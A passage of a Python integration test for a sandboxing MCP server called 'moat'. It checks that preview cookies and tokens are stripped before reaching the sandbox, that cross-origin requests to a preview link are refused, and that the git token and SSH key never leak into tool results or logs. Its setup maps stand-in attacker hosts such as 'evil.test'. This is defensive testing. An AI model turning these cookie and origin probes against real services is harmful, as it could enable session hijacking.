    cookie = (f"app=1; moat_preview_{host_port}={echo_session}; "
              f"moat_preview_{first['url'].split(':')[2].split('/')[0]}={first['token']}; moat_other={second['token']}")
    for _ in range(100):
        status, body = raw_get(base + "headers", {"Cookie": cookie, "X-Moat-Token": "x"})
        if status == 200:
            break
        await asyncio.sleep(0.1)
    assert status == 200 and "app=1" in body, (status, body)
    for secret in (echo["token"], first["token"], second["token"], "moat_", "X-Moat"):
        assert secret not in body, f"{secret} reached the sandbox: {body}"
    # Every request of a kept-alive connection is cleaned, not only the first.
    connection = http.client.HTTPConnection(urllib.parse.urlsplit(base).hostname, int(host_port), timeout=30)
    for path in ("/one", "/two"):
        connection.request("GET", path, headers={"Cookie": cookie})
        response = connection.getresponse()
        body = response.read().decode()
        assert response.status == 200 and "moat_" not in body and first["token"] not in body, (path, body)
    connection.close()
    # A page of the first link (its origin) cannot use the echo link, even
    # with the echo link's cookie: the browser says where the request is from.
    first_origin = first["url"].split("/?")[0]
    own = f"moat_preview_{host_port}={echo_session}"
    for headers in ({"Origin": first_origin}, {"Sec-Fetch-Site": "same-site"}, {"Sec-Fetch-Site": "cross-site"}):
        status, body = raw_get(base + "headers", {"Cookie": own, **headers})
        assert status == 403 and "another" in body, (headers, status, body)
    status, body = raw_get(base + "headers", {"Cookie": own, "Sec-Fetch-Site": "same-origin",
                                              "Origin": base.rstrip("/")})
    assert status == 200, (status, body)


async def main(binary, work):
    ca, cert, key = make_ca_and_cert(work)
    served, first, main_commit, feature = make_repository(work)
    server = serve_git(served, cert, key)
    port = server.server_address[1]
    ssh = SshHost(work, served)
    env = dict(
        os.environ,
        # The harness is the operator: it grants what the checks use.
        MOAT_ALLOW_NETWORK="filtered",
        MOAT_ALLOW_HOSTS="extra.test",
        MOAT_GIT_HOSTS="git.test,other.test,git-ssh.test,rogue-ssh.test",
        MOAT_ALLOW_SSH_KEY="1",
        MOAT_SSH_KNOWN_HOSTS=ssh.known_hosts,
        MOAT_ROOTS=ssh.shared,
        MOAT_TEST_RESOLVE=f"git.test=127.0.0.1,evil.test=127.0.0.1,other.test=127.0.0.1,"
                          f"git-ssh.test={SSH_PEER_IP},rogue-ssh.test={SSH_PEER_IP}",
        MOAT_TEST_EGRESS_NETS="127.0.0.1/32",
        MOAT_LOG_LEVEL="debug",
        # Every sandbox trusts the test server's CA (task_start's
        # sandboxes have no env of the caller's to name it).
        MOAT_CA_FILE=ca,
    )
    log_path = os.path.join(work, "moat-mcp.log")
    try:
        with open(log_path, "w") as log:
            async with stdio_client(StdioServerParameters(command=binary, args=[], env=env), errlog=log) as streams:
                async with ClientSession(streams[0], streams[1]) as session:
                    await session.initialize()
                    key_line = await ssh_clones(session, ssh, first, main_commit, feature)
                    await runtimes(session, ssh.shared)
                    await checks(session, port, first, main_commit, feature, open(ca).read())
    finally:
        ssh.stop()
    server.shutdown()
    for text in SEEN:
        assert TOKEN not in text, f"the token leaked into a tool result: {text[:300]}"
        assert key_line not in text, f"the SSH key leaked into a tool result: {text[:300]}"
    logged = open(log_path).read()
    leaks = [line.replace(TOKEN, "<TOKEN>")[:400] for line in logged.splitlines() if TOKEN in line or key_line in line]
    assert not leaks, f"the token or the key leaked into moat-mcp's log: {leaks[:3]}"
    print("network client: all checks passed")


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:3]))
